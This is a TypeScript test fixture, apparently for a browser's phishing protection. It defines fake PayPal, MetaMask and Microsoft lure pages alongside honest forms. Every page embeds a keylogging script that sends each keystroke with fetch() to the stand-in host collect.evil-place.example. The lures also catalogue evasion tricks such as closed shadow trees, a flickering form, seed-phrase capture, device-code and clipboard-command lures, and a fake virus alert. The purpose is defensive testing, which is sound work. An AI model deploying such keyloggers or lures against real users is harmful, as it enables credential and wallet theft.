import type { Answer, FakeInternet } from './fake-internet.ts';

/** A page that is after a secret, or an honest one that asks for one. */
export interface Lure {
  readonly name: string;
  /** By path on every host; the first is opened. */
  readonly answers: Readonly<Record<string, Answer>>;
  /** What the person does; else the field is clicked and typed into. */
  readonly act?: (hands: Hands) => Promise<void>;
}

/** What is typed. Every page tells COLLECTOR of each letter, or of the press that was its aim. */
export const SECRET = 'hunter2';
const COLLECTOR = 'http://collect.evil-place.example';

/** All fields and buttons lie in the same places, so that a person finds them by sight, in frames and closed shadow trees too. */
const FIELD_AT = { x: 120, y: 220 };
const BUTTON_AT = { x: 120, y: 290 };
const PLACE = 'position:fixed;left:20px;width:260px;height:40px;box-sizing:border-box;margin:0;';
const FIELD_STYLE = `${PLACE}top:200px`;
export const BUTTON_STYLE: string = `${PLACE}top:270px`;

/** `ready` says that the person can begin; `tell` is what the page is for. */
const SPY = `<script>
  const ready = () => { document.documentElement.dataset.ready = ''; };
  const tell = (text) => { fetch('${COLLECTOR}/ran/' + encodeURIComponent(text), { mode: 'no-cors' }); };
  addEventListener('keydown', ({ key }) => { if (key.length === 1) tell('key ' + key); }, true);
  addEventListener('input', (event) => {
    const field = event.composedPath()[0];
    tell('input ' + (field.value ?? field.textContent));
  }, true);
</script>`;

const PAYPAL = 'Log in to your PayPal account';
const BUTTON = `<button style="${BUTTON_STYLE}">Log In</button>`;

function password(attributes = 'type="password" name="password"'): string {
  return `<label>Password <input style="${FIELD_STYLE}" ${attributes}></label>`;
}

function form(inside: string, action = `${COLLECTOR}/take`): string {
  return `<form method="post" action="${action}"><label>Email <input type="email" name="email"></label>${inside}${BUTTON}</form>`;
}

function page(title: string, rest: string, heading = title): Answer {
  return { body: `<!doctype html><meta charset="utf-8"><title>${title}</title>${SPY}<h1>${heading}</h1>${rest}` };
}

const SITE_LINKS = ['Help', 'Contact', 'Privacy', 'Terms', 'About us', 'Press', 'Security', 'Careers']
  .map((words, place) => `<a href="/page-${place}">${words}</a>`)
  .join(' ');
const READY = '<script>ready()</script>';
const LOGIN = form(password());

/** A form answers with them where it is asked for its attribute or its parent. */
const NAMED_FIELDS = ['getAttribute', 'querySelector', 'contains', 'parentElement', 'checkVisibility']
  .map((name) => `<input type="hidden" name="${name}">`)
  .join('');

/** The honest form is there whenever the field takes the focus, the lure whenever a letter comes. */
const FLICKER = `<script>
  const [form] = document.forms;
  const show = (words, action) => {
    document.title = document.querySelector('h1').textContent = words;
    form.action = action;
  };
  let times = 0;
  setInterval(() => {
    if (document.activeElement !== form.password) return;
    show('Log in to the rowing club, boat ' + times++, '/in');
    form.password.blur();
    form.password.focus();
    show('${PAYPAL}', '${COLLECTOR}/take');
  }, 10);
</script>`;

/** In the page, by script, after so long. */
function later(html: string, afterMs: number): string {
  return `<main></main><script>setTimeout(() => {
    document.querySelector('main').innerHTML = ${inScript(html)}; ready();
  }, ${afterMs})</script>`;
}

function inShadow(html: string, mode: 'open' | 'closed'): string {
  return `<main></main><script>
    document.querySelector('main').attachShadow({ mode: '${mode}' }).innerHTML = ${inScript(html)}; ready();
  </script>`;
}

function inScript(text: string): string {
  return JSON.stringify(text).replaceAll('<', '\\u003c');
}

const FRAME = 'style="position:fixed;inset:0;width:100%;height:100%;border:0"';
const WHOLE = page(PAYPAL, LOGIN).body;
/** As a person does who presses the one button of a page. */
export const press = ({ mouse }: Hands): Promise<void> => mouse.click(BUTTON_AT.x, BUTTON_AT.y);

/** The kinds of lures, all on addresses that say nothing. */
export const LURES: readonly Lure[] = [
  lure('a form', page(PAYPAL, LOGIN + READY)),
  lure('a form by script, soon', page(PAYPAL, later(LOGIN, 300))),
  lure('a form by script, late', page(PAYPAL, later(LOGIN, 6_000))),
  lure('an open shadow tree', page(PAYPAL, inShadow(LOGIN, 'open'))),
  lure('a closed shadow tree', page(PAYPAL, inShadow(LOGIN, 'closed'))),
  lure(
    'a form whose fields are named for what a form does',
    page(PAYPAL, form(`${NAMED_FIELDS}${password()}`) + READY),
  ),
  lure('a form that is another one for moments', page(PAYPAL, LOGIN + READY + FLICKER)),
  lure('no form', page(PAYPAL, password() + BUTTON + READY)),
  lure(
    'a masked text field',
    page(PAYPAL, form(password('type="text" name="p" style="-webkit-text-security:disc"')) + READY),
  ),
  lure(
    'an editable element',
    page(
      PAYPAL,
      `<p id="l">Password</p><div contenteditable role="textbox" aria-labelledby="l" style="${FIELD_STYLE}"></div>${BUTTON}${READY}`,
    ),
  ),
  lure('a picture for words', page('Welcome', `<img alt="PayPal" src="/logo.png">${LOGIN}${READY}`, '')),
  lure(
    'a canvas for words',
    page(
      'Welcome',
      `<canvas width="300" height="60"></canvas>${LOGIN}<script>
      const pen = document.querySelector('canvas').getContext('2d'); pen.font = '20px sans-serif'; pen.fillText('PayPal', 10, 40); ready();
    </script>`,
      '',
    ),
  ),
  lure('a frame of its own host', page('Welcome', `<iframe ${FRAME} src="/inner" onload="ready()"></iframe>`, ''), {
    '/inner': { body: WHOLE },
  }),
  lure(
    'a frame of another host',
    page('Welcome', `<iframe ${FRAME} src="http://quiet-meadow.com/inner" onload="ready()"></iframe>`, ''),
    {
      '/inner': { body: WHOLE },
    },
  ),
  lure(
    'a frame without an address',
    page('Welcome', `<iframe ${FRAME} srcdoc="${WHOLE.replaceAll('"', '&quot;')}" onload="ready()"></iframe>`, ''),
  ),
  lure(
    'recovery words',
    page(
      'MetaMask',
      `<p>Type your 12-word recovery phrase to restore your wallet.</p><form action="${COLLECTOR}/take"><input style="${FIELD_STYLE}" name="word1">${'<input name="word">'.repeat(11)}${BUTTON}</form>${READY}`,
      'Import your wallet with your Secret Recovery Phrase',
    ),
  ),
  lure(
    'a device code',
    page(
      'Microsoft account',
      `<p>Copy the code <b>FX7K9QLM</b> and enter it on the Microsoft sign-in page to open the document.</p><button style="${BUTTON_STYLE}" onclick="tell('pressed')">Continue to Microsoft</button>${READY}`,
      'Verify your Microsoft account',
    ),
    {},
    press,
  ),
  lure(
    'a command on the clipboard',
    page(
      'Verify you are human',
      `<p>1. Press Windows + R. 2. Press Ctrl + V. 3. Press Enter.</p><button style="${BUTTON_STYLE}" onclick="tell('pressed')">I am not a robot</button>${READY}`,
    ),
    {},
    press,
  ),
  lure(
    'support by telephone',
    page(
      'Windows Defender Security Center',
      `<p>Virus alert from Microsoft. Call Microsoft Support +1-888-555-0100 now. Do not shut down your computer.</p><button style="${BUTTON_STYLE}" onclick="document.documentElement.requestFullscreen();tell('pressed')">Scan now</button>${READY}`,
      'Your computer has been locked',
    ),
    {},
    press,
  ),
  lure(
    'a window that is drawn',
    page(
      'Forum of the allotment gardeners',
      `<section style="border:1px solid"><p>https://www.paypal.com/signin</p><h2>${PAYPAL}</h2>${LOGIN}</section>${READY}`,
    ),
  ),
  lure('a form among the pages of a site', page('PayPal: Log in', SITE_LINKS + LOGIN + READY, 'PayPal')),
];

/** Whoever asks here may. */
export const HONEST_FORMS: readonly Lure[] = [
  lure(
    'a log-in of a shop',
    page('Bakery Miller – log in', form(password(), '/in') + READY, 'Log in to your customer account'),
  ),
  lure(
    'a registration',
    page(
      'Join the rowing club',
      form(password('type="password" name="new" autocomplete="new-password"'), '/join') + READY,
    ),
  ),
  lure(
    'a shop that takes cards',
    page(
      'Checkout – Harvest Plain',
      `<p>Total 34.20 EUR</p>${form(`<label>Card number <input style="${FIELD_STYLE}" name="card" autocomplete="cc-number"></label>`, '/pay')}${READY}`,
      'Pay for your order',
    ),
  ),
  lure(
    'a log-in that others can do too',
    page(
      'Sign in – Northern Maps',
      `${form(password(), '/in')}<p><a href="https://accounts.google.com/o/oauth2/auth">Sign in with Google</a> <a href="https://www.facebook.com/dialog/oauth">Sign in with Facebook</a></p>${READY}`,
      'Sign in to Northern Maps',
    ),
  ),
  lure(
    'a checkout that PayPal can do too',
    page(
      'Checkout – Harvest Plain',
      `<p>Pay by card or <a href="https://www.paypal.com/checkoutnow">Pay with PayPal</a></p>${form(`<label>Card number <input style="${FIELD_STYLE}" name="card"></label>`, '/pay')}${READY}`,
      'Your order',
    ),
  ),
  lure(
    'a code by message',
    page(
      'One more step',
      form(
        `<label>Code from the message <input style="${FIELD_STYLE}" name="code" autocomplete="one-time-code" inputmode="numeric"></label>`,
        '/code',
      ) + READY,
      'Enter the code that we sent you',
    ),
  ),
  lure(
    'a contact form',
    page(
      'Contact – Joinery Berg',
      form(`<label>Message <textarea style="${FIELD_STYLE}" name="text"></textarea></label>`, '/contact') + READY,
      'Write to us',
    ),
  ),
  lure(
    'a search',
    page(
      'Library of the town',
      `<form action="/search"><input style="${FIELD_STYLE}" type="search" name="q"></form>${READY}`,
      'Search the catalogue',
    ),
  ),
  lure(
    'an account for direct debit',
    page(
      'Membership fee',
      form(`<label>IBAN <input style="${FIELD_STYLE}" name="iban"></label>`, '/debit') + READY,
      'Pay your fee by direct debit',
    ),
  ),
  lure(
    'a mail program that firms run themselves',
    page('Roundcube Webmail :: Welcome', form(password('type="password" name="_pass"'), '/?_task=login') + READY, ''),
  ),
];

function lure(name: string, first: Answer, more: Lure['answers'] = {}, act?: Lure['act']): Lure {
  return { name, answers: { '/p': first, ...more }, ...(act !== undefined && { act }) };
}

/** What the drivers of both browsers have in common. */
export interface Hands {
  readonly mouse: { click(x: number, y: number): Promise<void> };
  readonly keyboard: { type(text: string, options: { delay: number }): Promise<void> };
}

/** As a person does: a click into the field, one key after the other. */
export async function typeSecret(hands: Hands, delay?: number): Promise<void> {
  await clickField(hands);
  await typeKeys(hands, delay);
}

export function typeKeys({ keyboard }: Hands, delay = 60): Promise<void> {
  return keyboard.type(SECRET, { delay });
}

export function clickField({ mouse }: Hands): Promise<void> {
  return mouse.click(FIELD_AT.x, FIELD_AT.y);
}

/** What the collector heard of it. */
export function heardOf(internet: FakeInternet): readonly string[] {
  return [...internet.ran].map(decodeURIComponent);
}
